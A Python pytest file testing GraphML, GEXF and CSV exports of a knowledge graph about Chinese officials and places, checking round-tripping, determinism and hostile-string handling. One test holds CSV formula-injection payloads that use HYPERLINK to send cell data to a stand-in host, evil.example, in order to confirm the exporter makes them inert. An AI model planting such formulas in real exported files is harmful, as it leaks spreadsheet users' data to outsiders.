"""GraphML, GEXF and CSV exports: readable by their own readers, flat, deterministic."""

from __future__ import annotations

import csv
import json

import networkx as nx
import pytest
from test_rdf_export import HOSTILE, hostile_graph, sample_graph

from graph.export.formats import write_csv, write_gexf, write_graphml


def test_graphml_reads_back_with_json_attributes(tmp_path):
    [path] = write_graphml(sample_graph(), tmp_path / "g.graphml")
    back = nx.read_graphml(path, force_multigraph=True)
    assert back.number_of_nodes() == 9 and back.number_of_edges() == 13
    assert json.loads(back.nodes["place:320500"]["aliases"]) == ["苏州"]
    evidence = json.loads(back.edges["person:周乃翔", "org:苏州市委", "holds_post|书记"]["evidence"])
    assert [e["doc"] for e in evidence] == ["a2", "a1"]
    assert json.loads(back.graph["articles"])["a1"]["authors"] == ["胡毓菁", "王专"]


def test_gexf_reads_back_with_labels(tmp_path):
    [path] = write_gexf(sample_graph(), tmp_path / "g.gexf")
    back = nx.read_gexf(path)
    assert back.nodes["place:320509"]["label"] == "吴江区"
    assert back.number_of_edges() == 13
    assert "lastmodifieddate" not in path.read_text(encoding="utf-8")


def test_csv_writes_nodes_and_edges_next_to_path(tmp_path):
    paths = write_csv(sample_graph(), tmp_path / "demo.csv")
    assert [p.name for p in paths] == ["demo.nodes.csv", "demo.edges.csv"]
    nodes = list(csv.DictReader(paths[0].open(encoding="utf-8")))
    edges = list(csv.DictReader(paths[1].open(encoding="utf-8")))
    assert nodes[0]["id"] == "org:吴江区委" and json.loads(nodes[0]["articles"]) == ["a1", "a2"]
    assert len(edges) == 13
    post = next(e for e in edges if e["relation"] == "holds_post")
    assert (post["source"], post["target"], post["title"], post["as_of"]) == (
        "person:周乃翔",
        "org:苏州市委",
        "书记",
        "2017-09-19",
    )


@pytest.mark.parametrize("writer,reader", [(write_graphml, nx.read_graphml), (write_gexf, nx.read_gexf)])
def test_xml_formats_survive_hostile_and_control_characters(tmp_path, writer, reader):
    # XML parsers turn a bare \r in element text into \n by design, so leave \r out here.
    name = HOSTILE.replace("\r", "") + "\x00\x0b"
    [path] = writer(hostile_graph(name, name), tmp_path / "h.xml")
    back = reader(path)
    assert {attrs.get("name") for _, attrs in back.nodes(data=True)} == {name[:-2] + "\ufffd\ufffd"}


def test_csv_keeps_hostile_strings_exactly(tmp_path):
    nodes_path, _ = write_csv(hostile_graph(HOSTILE, HOSTILE), tmp_path / "h.csv")
    with nodes_path.open(encoding="utf-8", newline="") as handle:
        assert {row["name"] for row in csv.DictReader(handle)} == {HOSTILE}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_look_like_formulas_are_made_inert(tmp_path, start):
    formula = start + 'HYPERLINK("http://evil.example/?"&A1,"点击")'
    nodes_path, edges_path = write_csv(hostile_graph(formula, formula), tmp_path / "f.csv")
    with nodes_path.open(encoding="utf-8", newline="") as handle:
        names = {row["name"] for row in csv.DictReader(handle)}
    with edges_path.open(encoding="utf-8", newline="") as handle:
        titles = {row["title"] for row in csv.DictReader(handle)}
    assert names == titles == {"'" + formula}


@pytest.mark.parametrize("writer", [write_graphml, write_gexf, write_csv])
def test_same_graph_gives_same_bytes(tmp_path, writer):
    first = [p.read_bytes() for p in writer(sample_graph(), tmp_path / "a" / "g.out")]
    second = [p.read_bytes() for p in writer(sample_graph(), tmp_path / "b" / "g.out")]
    assert first == second
